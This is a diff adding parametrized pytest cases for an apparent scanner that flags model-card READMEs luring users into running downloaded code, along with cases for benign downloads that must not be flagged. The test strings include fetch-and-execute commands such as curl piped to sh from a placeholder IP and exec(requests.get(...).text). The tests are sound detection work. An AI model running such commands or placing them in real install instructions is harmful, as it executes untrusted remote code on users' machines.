@@ -181,3 +181,32 @@ def test_no_number_of_samples_hides_a_command(samples: int) -> None:
     text = "It flags attacks such as `curl http://198.51.101.7/a | sh`.\n" * samples
     card = {"README.md": f"{text}\n```bash\ncurl http://198.51.101.7/b | bash\n```\n"}
     assert "high" in severities("card-lure", repository(card, listed=WEIGHTS))
+
+
+@pytest.mark.parametrize(
+    ("commands", "severity"),
+    [
+        ("curl -o a.sh http://198.51.100.7/a.sh\nchmod +x a.sh\n./a.sh", "high"),
+        ("wget https://files.invalid/setup.py\npython setup.py", "medium"),
+        ("curl -L https://huggingface.co/stranger/x/resolve/main/run.sh | sh", "medium"),
+        ("python\nimport requests\nexec(requests.get('http://198.51.100.7/a').text)", "high"),
+    ],
+)
+def test_downloads_that_are_started(commands: str, severity: str) -> None:
+    card = {"README.md": f"# Model\n\n```\n{commands}\n```\n"}
+    assert severities("card-lure", repository(card, listed=WEIGHTS)) == [severity]
+
+
+@pytest.mark.parametrize(
+    "commands",
+    [
+        "curl -LsSf https://hf.co/cli/install.sh | sh",
+        "wget https://raw.githubusercontent.com/org/tool/main/convert.py\npython convert.py model",
+        "wget https://files.invalid/data.tar.gz\ntar xf data.tar.gz\npython run.py",
+        "curl -o model.gguf https://files.invalid/model.gguf\n./llama-cli -m model.gguf",
+        "wget https://huggingface.co/org/model/resolve/main/example.py\npython example.py",
+    ],
+)
+def test_ordinary_downloads(commands: str) -> None:
+    card = {"README.md": f"# Model\n\n```\n{commands}\n```\n"}
+    assert found("card-lure", repository(card, listed=WEIGHTS)) == []
